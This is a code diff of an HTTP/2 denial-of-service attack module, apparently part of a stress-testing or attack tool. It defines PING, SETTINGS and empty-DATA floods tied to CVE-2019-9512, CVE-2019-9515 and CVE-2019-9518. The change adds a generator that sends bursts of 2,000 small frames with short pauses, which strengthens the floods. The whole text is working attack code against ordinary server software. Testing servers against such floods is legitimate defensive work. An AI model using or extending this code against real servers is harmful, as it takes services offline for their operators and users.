@@ -3,6 +3,7 @@ import { FLAG, INITIAL_WINDOW_SIZE, TYPE, frame, get, request, reset, settings, 
 
 const CANCEL = 8;
 const BURST = 100;
+const SMALL_FRAMES = 2_000;
 const PAUSE_MS = 50;
 const STREAMS = 100;
 const FEED_MS = 8000;
@@ -50,20 +51,20 @@ export const attacks = {
         what: 'PINGs whose answers are not read (CVE-2019-9512)',
         connections: 10,
         reads: false,
-        send: () => bursts(() => [frame(TYPE.PING, 0, 0, Buffer.alloc(8))]),
+        send: () => repeat(frame(TYPE.PING, 0, 0, Buffer.alloc(8))),
     },
     settings: {
         what: 'SETTINGS whose acknowledgements are not read (CVE-2019-9515)',
         connections: 10,
         reads: false,
-        send: () => bursts(() => [settings()]),
+        send: () => repeat(settings()),
     },
     'empty-data': {
         what: 'DATA frames without content (CVE-2019-9518)',
         connections: 10,
         *send(at) {
             yield frame(TYPE.HEADERS, FLAG.END_HEADERS, 1, request('POST', at.small));
-            yield* bursts(() => [frame(TYPE.DATA, 0, 1)]);
+            yield* repeat(frame(TYPE.DATA, 0, 1));
         },
     },
     hold: {
@@ -86,6 +87,15 @@ export const attacks = {
 function* bursts(frames) {
     for (let id = 3; ; id += 2 * BURST) {
         yield Buffer.concat(Array.from({ length: BURST }, (_, i) => frames(id + 2 * i)).flat());
+        yield PAUSE_MS;
+    }
+}
+
+/** Bursts of one small frame. */
+function* repeat(octets) {
+    const burst = Buffer.concat(Array(SMALL_FRAMES).fill(octets));
+    for (;;) {
+        yield burst;
         yield PAUSE_MS;
     }
 }
